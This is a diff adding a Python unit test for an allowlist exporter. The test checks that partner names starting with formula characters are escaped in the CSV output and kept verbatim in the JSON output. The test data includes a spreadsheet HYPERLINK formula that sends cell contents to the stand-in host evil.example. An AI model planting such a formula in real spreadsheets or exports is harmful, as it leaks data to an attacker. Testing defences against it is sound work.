@@ -91,6 +91,21 @@ def test_a_rules_address_is_allowlisted_by_its_partner_alone():
         ("a", "active", ""), ("pa", "rule", "partner-a"), ("pb", "rule", "rule 200")]
 
 
+def test_a_partner_name_a_spreadsheet_would_run_is_text_in_the_csv_and_as_is_in_the_json(tmp_path):
+    # A rule's description edited in the console reaches the state at the next refresh: validation cannot stop it,
+    # and allowlist.csv is opened by the partner.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"partner")'
+    entries = allowlist_entries(state(
+        address("a", "203.0.113.1"), address("pa", "203.0.113.5"), address("pb", "203.0.113.6"),
+        address("pc", "203.0.113.7"), holder(NAT_ADDRESS, ["a"], []),
+        nat_with_rules((100, formula, ["pa"]), (200, "+1 partner", ["pb"]), (300, "a=b", ["pc"]))), stack="s")
+    write_allowlist(entries, tmp_path)
+    rows = {row["name"]: row["partner"] for row in csv.DictReader(io.StringIO((tmp_path / "allowlist.csv").read_text()))}
+    assert rows == {"a": "", "pa": "'" + formula, "pb": "'+1 partner", "pc": "a=b"}
+    assert {e["name"]: e["partner"] for e in json.loads((tmp_path / "allowlist.json").read_text())} == {
+        "a": "", "pa": formula, "pb": "+1 partner", "pc": "a=b"}
+
+
 def test_a_rules_draining_address_is_draining_for_its_partner():
     entries = allowlist_entries(state(
         address("a", "203.0.113.1"), address("pa", "203.0.113.5"), address("pa2", "203.0.113.7"),
